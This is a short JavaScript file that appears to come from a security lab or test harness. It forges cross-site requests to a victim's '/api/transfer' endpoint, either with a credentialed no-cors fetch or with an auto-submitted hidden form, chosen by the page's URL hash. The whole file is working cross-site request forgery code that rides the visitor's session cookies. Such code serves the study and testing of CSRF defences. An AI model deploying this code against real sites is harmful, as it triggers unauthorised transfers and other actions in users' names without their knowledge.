// Forges a request to the victim, in the way that the address of this page names.

const { lab, victim } = document.body.dataset;
const action = `${victim}/${lab}/api/transfer`;

if (location.hash === "#csrf-background") {
  await fetch(action, { method: "POST", mode: "no-cors", credentials: "include" });
}
if (location.hash === "#csrf-form") {
  const form = document.createElement("form");
  form.method = "post";
  form.action = action;
  document.body.append(form);
  form.submit();
}
